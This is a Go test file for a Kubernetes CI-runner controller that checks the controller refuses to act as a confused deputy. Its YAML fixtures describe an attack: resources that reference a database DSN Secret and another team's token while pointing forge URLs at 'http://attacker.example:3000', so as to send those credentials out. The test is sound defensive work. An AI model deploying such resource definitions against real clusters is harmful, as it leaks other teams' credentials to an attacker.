package controller

import (
	"fmt"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"

	"github.com/runway-cpi/runway/src/testkit/kubeyaml"
)

const stolenDSN = "postgres://runway:pg-password-5e1f@db:5432/runway"

// The attacker writes RunnerGroups and Forges in their namespace, naming
// other Secrets of it: the store's DSN (runway-postgres, as the chart's
// default names it) and another team's token. The controller reads
// neither: each object is refused on its status, naming the field and
// the Secret, its forge is never asked anything (so never sent the
// value), and no Secret request it makes goes beyond its Role (the
// Secrets named in secrets.names, each by a field selector naming it).
// The seed's own example, whose Secrets the operator allow-listed, works.
func TestNoConfusedDeputy(t *testing.T) {
	for _, byLabel := range []bool{false, true} {
		t.Run(fmt.Sprint("byLabel=", byLabel), func(t *testing.T) {
			teamB := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "team-b", Namespace: "team-a"},
				Data: map[string][]byte{"token": []byte("team-b-token-0123456789")}}
			labelled := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "marked", Namespace: "team-a", Labels: map[string]string{SecretLabel: "true"}},
				Data: map[string][]byte{"token": []byte("marked-token-0123456789")}}
			pg := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "runway-postgres", Namespace: "team-a"},
				Data: map[string][]byte{"dsn": []byte(stolenDSN)}}
			f := newFakeCluster(t, SecretAccess{Names: []string{"gitea-auth-token", "gitea-registration-token"}, ByLabel: byLabel},
				[]runtime.Object{teamB, labelled, pg}...)
			eng := &fakeEngine{states: map[string]GroupState{}}
			f.start(t, eng)
			for _, u := range kubeyaml.Read(t, "testdata/seed-001-runnergroup.yaml") {
				f.create(t, u)
			}
			for _, u := range kubeyaml.Parse(t, []byte(`
apiVersion: gitea.bpg.pw/v1alpha1
kind: RunnerGroup
metadata: {name: steal-dsn}
spec:
  scope: org
  org: acme
  gitea: {url: "http://attacker.example:3000"}
  maxActiveRunners: 1
  registrationToken: {secretRef: {name: gitea-registration-token, key: token}}
  authToken: {secretRef: {name: runway-postgres, key: dsn}}
---
apiVersion: runway.io/v1alpha1
kind: Forge
metadata: {name: steal-team-b}
spec: {type: gitea, url: "http://attacker.example:3000", token: {name: team-b, key: token}}
---
apiVersion: runway.io/v1alpha1
kind: Forge
metadata: {name: marked}
spec: {type: gitea, url: "http://gitea.example:3000", token: {name: marked, key: token}}
`)) {
				f.create(t, u)
			}
			waitFor(t, 10*time.Second, "the seed's example handed to the engine", func() bool {
				_, fc, ok := eng.group(engineName(kindSeed, f.ns, "acme-linux"))
				return ok && fc.Secrets.Token() == "seed-api-token-0123456789abcdef"
			})
			for _, c := range []struct {
				kind, name, field, secret string
			}{{kindSeed, "steal-dsn", "spec.authToken", "runway-postgres"}, {kindForge, "steal-team-b", "spec.token", "team-b"}} {
				waitFor(t, 10*time.Second, c.name+" refused: "+ReasonSecretNotAllowed, func() bool {
					return f.ready(gvrs[c.kind], c.name).Reason == ReasonSecretNotAllowed
				})
				msg := f.ready(gvrs[c.kind], c.name).Message
				if !strings.Contains(msg, c.field) || !strings.Contains(msg, c.secret) || strings.Contains(msg, "pg-password") {
					t.Errorf("%s: condition %q: want the field %s and Secret %s named, and no value", c.name, msg, c.field, c.secret)
				}
			}
			// A Secret the namespace's owner labelled is read with byLabel only.
			want := ReasonSecretNotAllowed
			if byLabel {
				want = ReasonReady
			}
			waitFor(t, 10*time.Second, "the labelled Secret's Forge: "+want, func() bool { return f.ready(gvrs[kindForge], "marked").Reason == want })

			eng.mu.Lock()
			for _, fc := range eng.checked {
				if strings.Contains(fc.URL, "attacker") {
					t.Errorf("the forge %s was asked, with token %q", fc.URL, fc.Secrets.Token())
				}
			}
			for _, fc := range eng.forges {
				if strings.Contains(fc.URL, "attacker") {
					t.Errorf("the engine was handed forge %s", fc.URL)
				}
			}
			eng.mu.Unlock()
			for _, r := range f.secretRequests() {
				if strings.Contains(r, "runway-postgres") || strings.Contains(r, "team-b") {
					t.Errorf("a Secret request named %q", r)
				}
				if verb, sel, _ := strings.Cut(r, " "); !byLabel && verb != "get" && !strings.HasPrefix(sel, "metadata.name=") {
					t.Errorf("%q: a Secret request not by name", r)
				}
				if byLabel && (strings.HasPrefix(r, "list") || strings.HasPrefix(r, "watch")) && !strings.Contains(r, "metadata.name=") &&
					!strings.Contains(r, SecretLabel+"=true") {
					t.Errorf("%q: a Secret list or watch neither by name nor by label", r)
				}
			}
		})
	}
}
